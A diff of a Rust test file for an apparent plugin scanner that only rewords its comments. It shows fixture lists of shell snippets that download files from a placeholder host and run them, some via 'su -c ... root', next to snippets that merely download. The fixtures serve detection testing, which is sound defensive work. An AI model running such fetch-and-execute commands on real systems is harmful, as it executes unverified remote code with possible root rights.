@@ -1,12 +1,12 @@
-//! Downloads that are kept in files: where they are run by way of functions, code in shells, traps, archives and copies, and
-//! where they are compared with a digest first.
+//! Downloads that are stored in files: run through functions, embedded shell code, traps, archives and copies, or compared
+//! with a digest first.
 
 use plugward_scanner::Profile;
 use plugward_types::Severity;
 
 use crate::common::report;
 
-/// Each runs what it fetched, and nothing compares it with anything.
+/// Each runs a download without comparing it with anything.
 const RUN: &[&str] = &[
     "fetch(){ curl -o f https://h.example/f; }; fetch; chmod +x f; ./f",
     "dl(){\n  curl -fsSL -o \"$2\" \"$1\"\n  echo done\n}\ndl https://h.example/f /tmp/f\nsh /tmp/f",
@@ -75,7 +75,7 @@ const RUN: &[&str] = &[
     "curl -o f https://h.example/f; su -c 'sh f' root",
 ];
 
-/// Each fetches, and runs nothing of it or no more than what was compared.
+/// Each downloads a file and runs nothing of it, or only after a comparison.
 const HARMLESS: &[&str] = &[
     "curl -o f https://h.example/f",
     "fetch(){ curl -o f https://h.example/f; }; fetch; cat f",
